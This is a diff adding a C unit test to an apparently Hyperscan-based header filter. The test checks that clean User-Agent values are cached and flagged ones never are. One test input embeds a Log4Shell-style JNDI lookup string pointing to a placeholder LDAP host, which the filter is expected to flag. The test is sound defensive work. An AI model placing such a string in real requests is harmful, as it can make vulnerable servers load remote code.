@@ -209,6 +209,28 @@ test_inert_values_stay_silent(void)
 	hs_free_scratch(s);
 }
 
+/* Clean values are remembered exactly; flagged ones never are. */
+static void
+test_clean_cache(void)
+{
+	const char *ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+	const char *bad = "Mozilla/5.0 ${jndi:ldap://x.example/a}";
+	uint64_t before = ctx.cached;
+
+	cats_of(PF_CLASS_headers, ua);
+	CHECK(cats_of(PF_CLASS_headers, ua) == 0 && ctx.cached == before + 1, "clean value remembered");
+	CHECK(cats_of(PF_CLASS_values, ua) == 0 && ctx.cached == before + 1,
+			"another class is another question");
+	for (int i = 0; i < 3; i++)
+		CHECK(cats_of(PF_CLASS_headers, bad) & CAT(jndi), "flagged every time (%d)", i);
+	CHECK(ctx.cached == before + 1, "a flagged value is never taken as known clean");
+	char almost[128];
+	snprintf(almost, sizeof(almost), "%s", ua);
+	almost[strlen(almost) - 1] = '\'';
+	cats_of(PF_CLASS_headers, almost);
+	CHECK(ctx.cached == before + 1, "one byte different is a different value");
+}
+
 static void
 test_extraction_and_ranges(void)
 {
@@ -282,6 +304,7 @@ main(int argc, char **argv)
 	ev = rte_zmalloc("ev", MW_EVENT_SIZE, 64);
 	test_categories();
 	test_inert_values_stay_silent();
+	test_clean_cache();
 	test_extraction_and_ranges();
 	printf("%d checks, %d failed\n", checks, failures);
 	pf_ctx_free(&ctx);
